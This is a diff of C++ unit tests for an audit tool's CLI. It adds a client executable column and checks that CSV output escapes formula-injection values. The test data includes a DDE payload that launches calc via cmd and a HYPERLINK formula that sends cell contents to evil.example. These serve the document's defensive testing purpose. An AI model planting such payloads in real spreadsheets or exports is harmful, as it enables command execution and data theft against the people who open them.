@@ -124,7 +124,8 @@ TEST_F(AuditCli, JsonHasEveryColumn) {
   EXPECT_EQ(j[0]["count"], 1);
   EXPECT_TRUE(j[0]["parent_id"].is_null());
   EXPECT_TRUE(j[0]["proxy_id"].is_string()) << "the writer's proxy_id, the host name by default";
-  EXPECT_EQ(j[0].size(), 21u);
+  EXPECT_TRUE(j[0]["client_exe"].is_null()) << "a client that was not launched names no process";
+  EXPECT_EQ(j[0].size(), 24u);
 }
 
 TEST_F(AuditCli, AuditDbIsTheSameFlagAsEverywhereElse) {
@@ -310,6 +311,8 @@ class AuditCliHostile : public ::testing::Test {
     r.reason = "+cmd|' /C calc'!A0";
     r.rule = "-2+3";
     r.client_addr = "\r=1+1";
+    // The process's executable and argv are the agent's to name too (issue 27).
+    r.origin = {7, "=2+5", "@SUM(1+1) -x"};
     const auto h = w.insert(std::move(r));
     Completion c;
     c.status = 400;
@@ -354,7 +357,8 @@ TEST_F(AuditCliHostile, TableAndCsvShowEscapesInstead) {
 TEST_F(AuditCliHostile, CsvCellsCannotStartAFormula) {
   auto r = audit({"--format", "csv"});
   for (const char* cell : {",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"ok\"\")\",", ",'@SUM(1+1),",
-                           ",'-2+3,", ",'+cmd|' /C calc'!A0,", ",\\x09leading tab,1\r\n", ",\\x0d=1+1,"})
+                           ",'-2+3,", ",'+cmd|' /C calc'!A0,", ",\\x09leading tab,1,", ",\\x0d=1+1,",
+                           ",7,'=2+5,'@SUM(1+1) -x\r\n"})
     EXPECT_NE(r.out.find(cell), std::string::npos) << cell << "\n" << r.out;
   r = audit({"summary", "--format", "csv"});
   EXPECT_NE(r.out.find(",\"'=HYPERLINK("), std::string::npos) << r.out;
